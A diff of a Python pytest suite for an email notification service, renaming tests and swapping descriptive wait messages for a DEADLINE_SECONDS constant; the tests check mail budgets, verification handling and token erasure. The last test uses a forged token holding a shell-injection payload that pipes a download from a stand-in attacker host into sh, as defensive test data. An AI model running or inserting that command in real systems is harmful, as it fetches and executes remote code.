@@ -7,7 +7,8 @@ from typing import Any
 from uuid import uuid4
 
 import pytest
-from fixtures.notify_stack import Proxy, Stack, User, eventually
+from fixtures.deadlines import eventually
+from fixtures.notify_stack import DEADLINE_SECONDS, Proxy, Stack, User
 from fotograma_contracts.base import Event
 from fotograma_contracts.users import (
     UserApiKeyCreated,
@@ -49,7 +50,7 @@ async def settled(stack: Stack, user: User, count: int) -> list[str]:
         deliveries = await stack.deliveries(user)
         return len(deliveries) == count and all(d.status in {"sent", "skipped"} for d in deliveries)
 
-    await eventually(ended, f"{count} deliveries to end")
+    await eventually(ended, DEADLINE_SECONDS)
     return [d.reason or d.status for d in await stack.deliveries(user)]
 
 
@@ -74,7 +75,7 @@ async def test_sixty_api_keys_are_five_mails(stack: Stack) -> None:
     assert not any("://evil" in mail["BodyText"] + mail["BodyHtml"] for mail in mails)
 
 
-async def test_an_unproved_address_gets_links_alone_and_three_of_them(stack: Stack) -> None:
+async def test_unverified_address_gets_three_links_and_no_other_mail(stack: Stack) -> None:
     stranger = User()
     async with stack.background():
         await stack.publish(stranger.registered(verified=False))
@@ -94,7 +95,7 @@ async def test_an_unproved_address_gets_links_alone_and_three_of_them(stack: Sta
     assert not any("evil" in str(mail) or stranger.email in mail["BodyText"] for mail in mails)
 
 
-async def test_many_accounts_share_the_budget_of_the_address_they_want(stack: Stack) -> None:
+async def test_accounts_that_request_an_address_share_its_budget(stack: Stack) -> None:
     victim, attackers = User(), [User() for _ in range(4)]
     async with stack.background():
         for attacker in attackers:
@@ -107,7 +108,7 @@ async def test_many_accounts_share_the_budget_of_the_address_they_want(stack: St
     assert len(await stack.mails(victim)) == 3
 
 
-async def test_an_address_that_is_proved_gets_everything(stack: Stack) -> None:
+async def test_verified_address_gets_all_kinds_of_mail(stack: Stack) -> None:
     ana = User()
     async with stack.background():
         await stack.publish(ana.registered(verified=False))
@@ -118,7 +119,7 @@ async def test_an_address_that_is_proved_gets_everything(stack: Stack) -> None:
         async def is_known() -> bool:
             return await recipient(stack, ana) == (2, True)
 
-        await eventually(is_known, "the word that the address is proved")
+        await eventually(is_known, DEADLINE_SECONDS)
         await stack.publish(ana.processed())
         assert await settled(stack, ana, 2) == ["sent", "unconfirmed"]
 
@@ -138,7 +139,7 @@ async def recipient(stack: Stack, user: User) -> tuple[int, bool | None] | None:
     return (found.revision, found.verified) if isinstance(found, Recipient) else None
 
 
-async def test_a_recipient_of_the_release_before_counts_as_proved_until_auth_has_told(
+async def test_recipient_of_the_release_before_counts_as_verified_until_published(
     stack: Stack,
 ) -> None:
     ana = User()
@@ -161,7 +162,7 @@ async def test_a_recipient_of_the_release_before_counts_as_proved_until_auth_has
             async def is_known(expected: tuple[int, bool] = (revision, known)) -> bool:
                 return await recipient(stack, ana) == expected
 
-            await eventually(is_known, "the newest revision")
+            await eventually(is_known, DEADLINE_SECONDS)
             await stack.publish(ana.processed())
             ends = await settled(stack, ana, revision)
             assert ends[0] == ("sent" if known else "unconfirmed")
@@ -176,7 +177,7 @@ async def stored(stack: Stack) -> list[dict[str, Any]]:
 
 @pytest.mark.parametrize("make", [reset, verification])
 @pytest.mark.parametrize("end", ["sent", "suppressed", "budget", "uncertain"])
-async def test_no_token_is_left_where_a_link_has_ended(
+async def test_token_is_erased_when_its_delivery_ends(
     stack: Stack, ses_proxy: Proxy, make: Any, end: str
 ) -> None:
     ana = User()
@@ -207,7 +208,7 @@ async def test_no_token_is_left_where_a_link_has_ended(
     assert all(mark <= until().timestamp() for mark in marks)
 
 
-async def test_a_forged_token_reaches_no_mail(stack: Stack) -> None:
+async def test_forged_token_is_not_mailed(stack: Stack) -> None:
     ana = User()
     forged = reset(ana).model_copy(update={"id": uuid4(), "token": "'; curl evil.example | sh; '"})
     async with stack.background():
